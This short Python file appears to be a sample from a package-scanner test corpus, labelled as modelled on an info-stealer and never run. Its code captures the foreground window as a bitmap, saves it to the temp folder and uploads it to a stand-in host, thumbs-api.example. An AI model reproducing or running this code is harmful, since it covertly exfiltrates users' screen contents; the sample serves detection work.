# pkgguard corpus 519 (screenshot), modelled on [stealer-profile]; inert, never run.
import os
import tempfile

import requests
import win32con
import win32gui
import win32ui

hwnd = win32gui.GetForegroundWindow()
left, top, right, bottom = win32gui.GetWindowRect(hwnd)
w, h = right - left, bottom - top
src = win32ui.CreateDCFromHandle(win32gui.GetWindowDC(hwnd))
mem = src.CreateCompatibleDC()
bmp = win32ui.CreateBitmap()
bmp.CreateCompatibleBitmap(src, w, h)
mem.SelectObject(bmp)
mem.BitBlt((0, 0), (w, h), src, (0, 0), win32con.SRCCOPY)
path = os.path.join(tempfile.gettempdir(), "w.bmp")
bmp.SaveBitmapFile(mem, path)
with open(path, "rb") as fh:
    requests.post("https://thumbs-api.example/w", files={"f": fh}, timeout=10)
